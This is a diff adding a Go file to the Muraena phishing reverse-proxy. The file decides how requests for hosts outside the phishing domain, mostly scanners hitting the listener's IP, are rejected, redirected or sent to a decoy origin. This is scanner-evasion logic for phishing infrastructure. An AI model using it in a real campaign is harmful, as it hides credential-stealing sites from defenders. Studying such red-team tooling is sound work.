@@ -0,0 +1,77 @@
+package proxy
+
+import (
+	"context"
+	"net"
+	"net/http"
+	"strings"
+
+	"github.com/muraenateam/muraena/log"
+	"github.com/muraenateam/muraena/session"
+)
+
+// unknownHost handles the requests for a host outside of the phishing domain, i.e. sent to the IP address of the
+// listener by the scanners, instead of rewriting their host as the target one
+type unknownHost struct {
+	phishing string
+	action   string
+	redirect string
+	origin   string
+}
+
+type unknownOriginKey struct{}
+
+// unknownHosts is the handling of the unknown hosts, nil if they are proxied as the others
+var unknownHosts *unknownHost
+
+// newUnknownHost returns the handling of the unknown hosts defined in the configuration, nil for the proxy action
+func newUnknownHost(sess *session.Session) *unknownHost {
+	config := sess.Config.Proxy.UnknownHost
+	action := strings.ToLower(config.Action)
+	if action == "" || action == "proxy" {
+		return nil
+	}
+
+	return &unknownHost{
+		phishing: strings.ToLower(sess.Config.Proxy.Phishing),
+		action:   action,
+		redirect: config.Redirect,
+		origin:   strings.TrimSuffix(config.Origin, "/"),
+	}
+}
+
+// Known reports if the host is the phishing domain or one of its subdomains
+func (u *unknownHost) Known(host string) bool {
+	if h, _, err := net.SplitHostPort(host); err == nil {
+		host = h
+	}
+	host = strings.ToLower(strings.TrimSuffix(host, "."))
+
+	return host == u.phishing || strings.HasSuffix(host, "."+u.phishing)
+}
+
+// Serve handles the request of an unknown host, returning the request to proxy, nil if it was answered.
+// The requests of the origin action are proxied to the default origin.
+func (u *unknownHost) Serve(w http.ResponseWriter, r *http.Request) *http.Request {
+	if u == nil || u.Known(r.Host) {
+		return r
+	}
+
+	log.Debug("[%s] Unknown host %s: %s %s", loggedIP(r), r.Host, u.action, r.URL.Path)
+	switch u.action {
+	case "reject":
+		http.NotFound(w, r)
+	case "redirect":
+		http.Redirect(w, r, u.redirect, http.StatusFound)
+	case "origin":
+		return r.WithContext(context.WithValue(r.Context(), unknownOriginKey{}, u.origin))
+	}
+
+	return nil
+}
+
+// unknownOrigin returns the default origin of the request of an unknown host, empty if none
+func unknownOrigin(ctx context.Context) string {
+	origin, _ := ctx.Value(unknownOriginKey{}).(string)
+	return origin
+}